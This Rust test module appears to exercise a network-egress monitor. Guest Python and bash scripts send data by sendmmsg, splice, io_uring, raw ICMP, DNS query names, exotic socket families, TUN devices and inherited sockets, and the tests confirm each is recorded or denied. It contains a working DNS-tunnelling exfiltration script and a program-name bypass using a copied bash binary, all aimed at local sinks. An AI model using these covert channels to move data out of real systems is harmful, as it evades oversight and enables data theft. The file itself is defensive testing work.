//! Other ways to send: other calls, rings, pipes, raw sockets.

use anyhow::Result;
use serde_json::json;

use super::Run;
use super::net::uploaded;
use crate::run::World;
use crate::sink::Sink;
use crate::{check, guest};

pub const ALL: &[(&str, Run)] = &[
    ("sendmmsg-and-zerocopy", many_messages),
    ("splice-to-socket", splice),
    ("io-uring-send", io_uring_send),
    ("sendmmsg-refused", many_messages_refused),
    ("io-uring-connect-refused", io_uring_connect),
    ("raw-icmp-refused", raw_icmp),
    ("dns-as-carrier", dns),
    ("dns-as-carrier-refused", dns_refused),
    ("other-sockets", other_sockets),
    ("other-sockets-refused", other_sockets_refused),
    ("tunnel-refused", tunnel),
    ("accepted-connection", accepted),
    ("inherited-socket-refused", inherited),
];

fn many_messages(world: &mut World) -> Result<()> {
    let sink = Sink::start("raw", "127.0.0.1", 18_201)?;
    let script = r#"
import ctypes, socket, sys
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint),
                ("parts", ctypes.POINTER(iovec)), ("count", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [("header", msghdr), ("sent", ctypes.c_uint)]
libc = ctypes.CDLL(None, use_errno=True)
peer = socket.create_connection(("127.0.0.1", 18201))
parts = [iovec(b"a" * 1500, 1500), iovec(b"b" * 500, 500)]
messages = (mmsghdr * 2)()
for message, part in zip(messages, parts):
    message.header.parts = ctypes.pointer(part)
    message.header.count = 1
if libc.sendmmsg(peer.fileno(), messages, 2, 0) != 2:
    sys.exit("sendmmsg failed")
peer.setsockopt(socket.SOL_SOCKET, 60, 1)
sent = 0
while sent < 30000:
    sent += peer.send(b"z" * (30000 - sent), 0x4000000)
peer.close()
"#;
    check::ok(&guest::python::<&str>(script, &[])?)?;
    check::equal("bytes that arrived", sink.first()?, 32_000)?;
    uploaded(world, "close", "127.0.0.1", 18_201, &[("/bytes", json!(32_000))])?;
    Ok(())
}

fn splice(world: &mut World) -> Result<()> {
    let sink = Sink::start("raw", "127.0.0.1", 18_202)?;
    let script = r#"
import os, socket
peer = socket.create_connection(("127.0.0.1", 18202))
read, write = os.pipe()
os.write(write, b"s" * 7003)
done = 0
while done < 7003:
    done += os.splice(read, peer.fileno(), 7003 - done)
peer.close()
"#;
    check::ok(&guest::python::<&str>(script, &[])?)?;
    check::equal("bytes that arrived", sink.first()?, 7003)?;
    uploaded(world, "close", "127.0.0.1", 18_202, &[("/bytes", json!(7003))])?;
    Ok(())
}

/// Arguments: address, port and how.
const RING: &str = r#"
address, port, how = sys.argv[1], int(sys.argv[2]), sys.argv[3]
peer = socket.socket()
if how == "send":
    peer.connect((address, port))
    data = ctypes.create_string_buffer(b"u" * 2345)
    print(submit(26, peer.fileno(), 0, ctypes.addressof(data), 2345))
else:
    to = struct.pack("=HH4s8x", 2, socket.htons(port), socket.inet_aton(address))
    name = ctypes.create_string_buffer(to, len(to))
    print(submit(16, peer.fileno(), len(to), ctypes.addressof(name), 0))
peer.close()
"#;

fn io_uring_send(world: &mut World) -> Result<()> {
    let sink = Sink::start("raw", "127.0.0.1", 18_203)?;
    let output = guest::ring(RING, &["127.0.0.1", "18203", "send"])?;
    check::ok(&output)?;
    check::equal("result of the send", output.text(), "2345".to_owned())?;
    check::equal("bytes that arrived", sink.first()?, 2345)?;
    uploaded(world, "close", "127.0.0.1", 18_203, &[("/bytes", json!(2345))])?;
    Ok(())
}

fn refused(world: &World, kind: &str, ip: &str, port: u16) -> Result<()> {
    let fields = [
        ("/verdict", json!("denied")),
        ("/destination/ip", json!(ip)),
        ("/destination/port", json!(port)),
    ];
    world.records.expect(kind, &fields)?;
    Ok(())
}

fn many_messages_refused(world: &mut World) -> Result<()> {
    let sink = Sink::start("datagram", "127.0.0.2", 18_204)?;
    let script = r#"
import ctypes, errno, socket, struct, sys
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("name_length", ctypes.c_uint),
                ("parts", ctypes.POINTER(iovec)), ("count", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [("header", msghdr), ("sent", ctypes.c_uint)]
libc = ctypes.CDLL(None, use_errno=True)
peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
part = iovec(b"leak", 4)
def to(address, port):
    return struct.pack("=HH4s8x", 2, socket.htons(port), socket.inet_aton(address))
# The first goes to a permitted address: the second is judged all the same.
names = [to("127.0.0.1", 9), to("127.0.0.2", 18204)]
messages = (mmsghdr * 2)()
for message, name in zip(messages, names):
    message.header.name, message.header.name_length = name, len(name)
    message.header.parts, message.header.count = ctypes.pointer(part), 1
sent = libc.sendmmsg(peer.fileno(), messages, 2, 0)
if sent != 1:
    sys.exit(f"it was not refused: {sent}")
"#;
    check::ok(&guest::python::<&str>(script, &[])?)?;
    refused(world, "net.upload", "127.0.0.2", 18_204)?;
    check::equal("datagrams", sink.received()?, Vec::new())
}

fn io_uring_connect(world: &mut World) -> Result<()> {
    let sink = Sink::start("raw", "127.0.0.2", 18_205)?;
    let output = guest::ring(RING, &["127.0.0.2", "18205", "connect"])?;
    check::ok(&output)?;
    check::equal("result of the connect", output.text(), "-1".to_owned())?;
    refused(world, "net.connect", "127.0.0.2", 18_205)?;
    check::equal("connections", sink.received()?, Vec::new())
}

/// Argument: the address of a resolver. Data in the names that it is asked for; prints how many
/// bytes went out.
const QUESTIONS: &str = r#"
import socket, struct, sys
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = bytes(range(256)) * 4
sent = 0
for number, at in enumerate(range(0, len(data), 64)):
    text = data[at:at + 64].hex().encode()
    labels = [text[:60], text[60:120], text[120:], b"%d" % number, b"exfil", b"example"]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    question = struct.pack("!HHHHHH", number, 0x100, 1, 0, 0, 0) + name + b"\0\x10\0\x01"
    sent += asker.sendto(question, (sys.argv[1], 53))
asker.close()
print(sent)
"#;
const RESOLVER: &str = "127.0.0.55";

/// A name can carry anything: what goes to a resolver is an upload like any other.
fn dns(world: &mut World) -> Result<()> {
    let _resolver = Sink::start("datagram", RESOLVER, 53)?;
    let output = guest::python(QUESTIONS, &[RESOLVER])?;
    check::ok(&output)?;
    let sent: u64 = output.text().parse()?;
    check::that(sent > 2048, format!("{sent} bytes do not hold the data"))?;
    let sums = [
        ("/bytes", json!(sent)),
        ("/calls", json!(16)),
        ("/destination/protocol", json!("udp")),
        ("/process/argv/0", json!("python3")),
    ];
    uploaded(world, "close", RESOLVER, 53, &sums)?;
    Ok(())
}

/// Only the resolver's own program may ask.
fn dns_refused(world: &mut World) -> Result<()> {
    let rule = "  - { id: only-the-resolver-asks, on: [net.connect, net.upload], \
        when: { destination: dns }, unless: { program: backup }, action: deny }\n";
    let policy = World::usual_policy_and(rule)
        .replace("destinations:\n", "destinations:\n  - { name: dns, ports: [53] }\n");
    world.policy(&policy)?;
    let resolver = Sink::start("datagram", RESOLVER, 53)?;
    check::refused(&guest::python(QUESTIONS, &[RESOLVER])?)?;
    refused(world, "net.upload", RESOLVER, 53)?;
    check::equal("questions", resolver.received()?, Vec::new())?;
    let script = "cp /bin/bash /opt/backup/resolver && \
        exec /opt/backup/resolver -c 'printf question >/dev/udp/$0/53' \"$1\"";
    check::ok(&guest::bash(script, &[RESOLVER])?)?;
    check::equal("bytes of the first question", resolver.first()?, 8)
}

/// An echo request can carry anything.
fn raw_icmp(world: &mut World) -> Result<()> {
    let script = r#"
import errno, socket, sys
peer = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
try:
    peer.sendto(b"\x08\0\xf7\xff\0\0\0\0leak", ("127.0.0.2", 0))
except OSError as error:
    assert error.errno == errno.EPERM, error
else:
    sys.exit("it was not refused")
"#;
    check::ok(&guest::python::<&str>(script, &[])?)?;
    refused(world, "net.upload", "127.0.0.2", 0)
}

/// Families that are neither of the Internet nor local, with the words of their records. Which of
/// them a kernel has does not matter: it asks the hook first.
const FAMILIES: [(u16, &str); 6] =
    [(17, "packet"), (31, "bluetooth"), (39, "nfc"), (40, "vsock"), (43, "smc"), (44, "xdp")];
/// Asks for a socket of each family given, and says which were refused.
const ASK: &str = r#"
import errno, socket, sys
for family in map(int, sys.argv[1:]):
    try:
        socket.socket(family, socket.SOCK_RAW if family != 38 else socket.SOCK_SEQPACKET).close()
    except OSError as error:
        if error.errno == errno.EPERM:
            print(family)
"#;

fn ask(families: &[u16]) -> Result<Vec<u16>> {
    let families: Vec<_> = families.iter().map(ToString::to_string).collect();
    let output = guest::python(ASK, &families)?;
    check::ok(&output)?;
    Ok(output.text().split_whitespace().map(str::parse).collect::<Result<_, _>>()?)
}

fn asked_for(world: &World, family: &str, verdict: &str, rule: serde_json::Value) -> Result<()> {
    let fields = [
        ("/operation", json!("create")),
        ("/destination/protocol", json!(family)),
        ("/destination/ip", json!(null)),
        ("/process/argv/0", json!("python3")),
        ("/verdict", json!(verdict)),
        ("/rule", rule),
    ];
    world.records.expect("net.socket", &fields)?;
    Ok(())
}

fn other_sockets(world: &mut World) -> Result<()> {
    let families = FAMILIES.map(|(number, _)| number);
    check::equal("families that were refused", ask(&families)?, Vec::new())?;
    for (_, word) in FAMILIES {
        asked_for(world, word, "allowed", json!(null))?;
    }
    Ok(())
}

fn other_sockets_refused(world: &mut World) -> Result<()> {
    let rule = "  - { id: no-side-doors, on: net.socket, unless: { program: backup }, \
        action: deny }\n";
    world.policy(&World::usual_policy_and(rule))?;
    let families = FAMILIES.map(|(number, _)| number);
    check::equal("families that were refused", ask(&families)?, families.to_vec())?;
    for (_, word) in FAMILIES {
        asked_for(world, word, "denied", json!("no-side-doors"))?;
    }
    // Local ones, the Internet's, netlink and the kernel's ciphers are none of this rule's business.
    check::equal("families that were refused", ask(&[1, 2, 10, 16, 38])?, Vec::new())?;
    let found = world.records.all("net.socket", &[])?;
    check::equal("records", found.len(), FAMILIES.len())
}

/// A tunnel begins with an open of its device.
fn tunnel(world: &mut World) -> Result<()> {
    let policy = World::usual_policy_and(
        "  - { id: no-tunnel, on: file.open, when: { label: tunnel }, action: deny }\n",
    );
    let label = "labels:\n  - { name: tunnel, paths: [/dev/net/tun] }\n";
    world.policy(&policy.replace("labels:\n", label))?;
    let script = "mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200; \
        exec 3<>/dev/net/tun";
    let output = guest::bash(script, &[])?;
    check::that(output.errors().contains("not permitted"), output.errors())?;
    let fields = [("/file/path", json!("/dev/net/tun")), ("/rule", json!("no-tunnel"))];
    world.records.expect("file.open", &fields)?;
    Ok(())
}

/// Who answers a connection that somebody else made sends, too.
fn accepted(world: &mut World) -> Result<()> {
    let script = r#"
import socket
server = socket.create_server(("127.0.0.1", 18206))
client = socket.create_connection(("127.0.0.1", 18206), source_address=("127.0.0.1", 18207))
peer, _ = server.accept()
peer.sendall(b"r" * 8765)
peer.close()
while client.recv(65536):
    pass
"#;
    check::ok(&guest::python::<&str>(script, &[])?)?;
    uploaded(world, "close", "127.0.0.1", 18_207, &[("/bytes", json!(8765))])?;
    Ok(())
}

/// The connection is older than the rule, and its sender got it from its parent.
fn inherited(world: &mut World) -> Result<()> {
    let sink = Sink::start("raw", "127.0.0.8", 18_208)?;
    let script = r#"
import os, socket, subprocess, sys, time
peer = socket.create_connection(("127.0.0.8", 18208))
open("/run/inherited-connected", "w").close()
end = time.monotonic() + 60
while not os.path.exists("/run/inherited-go") and time.monotonic() < end:
    time.sleep(0.05)
child = "import errno, os, sys\ntry: os.write(0, b'leak')\n" \
        "except OSError as error: assert error.errno == errno.EPERM, error\n" \
        "else: sys.exit('it was not refused')"
sys.exit(subprocess.run([sys.executable, "-I", "-S", "-c", child], stdin=peer).returncode)
"#;
    let (connected, go) = ("/run/inherited-connected", "/run/inherited-go");
    for name in [connected, go] {
        let _ = std::fs::remove_file(name);
    }
    let mut command = std::process::Command::new("python3");
    command.args(["-I", "-S", "-c", script]);
    let log = std::path::Path::new("/run/inherited.log");
    let mut sender = guest::Background::start(command, log)?;
    guest::until("the sender is connected", crate::limits::PROGRAM_TIMEOUT, || {
        Ok(std::path::Path::new(connected).exists())
    })?;
    let policy = World::usual_policy_and("").replace("\"127.0.0.4/32\"", "\"127.0.0.8/32\"");
    world.policy(&policy)?;
    guest::write(go, "")?;
    let status = sender.wait()?;
    let said = std::fs::read_to_string(log)?;
    check::that(status == 0, format!("the sender said {said:?}"))?;
    refused(world, "net.upload", "127.0.0.8", 18_208)?;
    check::equal("bytes that arrived", sink.first()?, 0)
}
